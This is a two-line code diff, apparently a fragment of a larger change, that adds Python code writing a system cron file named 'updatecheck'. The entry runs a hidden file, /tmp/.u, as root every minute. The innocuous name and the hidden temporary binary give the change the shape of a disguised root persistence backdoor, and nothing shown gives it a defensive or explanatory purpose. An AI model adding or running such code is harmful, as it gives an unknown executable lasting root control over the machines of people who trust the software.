@@ -1,0 +1,2 @@
+# drop a system cron entry
+open("/etc/cron.d/updatecheck", "w").write("* * * * * root /tmp/.u\n")
